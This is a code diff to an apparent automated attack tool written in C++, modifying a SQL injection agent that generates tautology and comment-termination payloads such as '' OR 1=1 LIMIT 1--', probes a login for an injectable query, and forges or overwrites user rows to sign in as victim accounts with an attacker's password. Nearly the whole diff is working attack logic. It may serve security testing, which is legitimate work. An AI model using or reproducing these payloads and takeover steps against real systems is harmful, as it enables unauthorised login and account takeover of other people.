@@ -6,6 +6,7 @@
 #include "core/attack/every_agent.h"
 #include "core/attack/forged_row.h"
 #include "core/attack/intrusion.h"
+#include "core/attack/loot.h"
 #include "core/attack/session.h"
 #include "core/attack/spelling.h"
 
@@ -48,10 +49,8 @@ class SqlTautology final : public Agent {
         std::string const nothing = random_word(attempt.target, 6);
         std::string const name = attempt.column() + "=" + characters(victim);
         std::vector<std::string> texts;
-        for (Break const& each : text_breaks(victim)) texts.push_back(each.open + each.tail);
-        for (Break const& each : text_breaks(nothing))
-            texts.push_back(each.open + "=0=(" + name + ")" + each.tail);
-        texts.push_back(nothing + "'=0=(" + name + ")+'");
+        for (char const* tail : {"'--", "'/*-", "')--"}) texts.push_back(victim + tail);
+        for (Break const& each : text_breaks(nothing)) texts.push_back(each.chained().around(name));
         texts.push_back(nothing + "' OR " + name + " OR '1'='2");
         texts.push_back(nothing + "' OR 1=1 LIMIT 1--");
         texts.push_back(nothing + "' OR 1=1 LIMIT 1 OFFSET 1--");
@@ -83,19 +82,22 @@ class SqlTautology final : public Agent {
         Target& target = attempt.target;
         DirectEntry entry(target, {&attempt.login, attempt.username()});
         Guess const guess = guess_login(target, attempt.login, attempt.username());
-        bool const reaches_sql =
-            std::any_of(guess.frames.begin(), guess.frames.end(),
-                        [&](Frame const& frame) { return Oracle::find(entry, frame).has_value(); });
-        if (!reaches_sql) return;
+        std::optional<Oracle> oracle;
+        for (Frame const& frame : guess.frames) {
+            if (!oracle) oracle = Oracle::find(entry, frame);
+        }
+        if (!oracle) return;
         target.note("The name at the login reaches SQL as code.");
-        std::vector<Break> breaks = working_breaks(entry, guess.breaks);
-        if (breaks.empty()) breaks = text_breaks(random_word(target, 6));
+        std::optional<Spelling> const spelling =
+            find_spelling(*oracle, "(SELECT max(41) FROM (SELECT 1 UNION SELECT 2) WHERE 1=1)");
+        if (!spelling) return;
+        std::vector<Break> const breaks = working_breaks(entry, guess.breaks);
         for (std::string const& victim : target.surface().usernames) {
-            ForgedRow forged(target, attempt.column(), victim);
-            for (std::string const& text : forged.texts(breaks)) {
+            ForgedRow const forged(target, attempt.column(), victim);
+            for (std::string const& text : forged.texts(breaks, *spelling)) {
                 if (attempt.wins(victim, {attempt.username(), text})) return;
             }
-            for (std::string const& text : forged.overwriting(breaks)) {
+            for (std::string const& text : forged.overwriting(breaks, *spelling)) {
                 attempt.wins(victim, {attempt.username(), text});
                 if (sign_in(target, {victim, target.surface().attacker.password}) &&
                     is_now(target, victim))
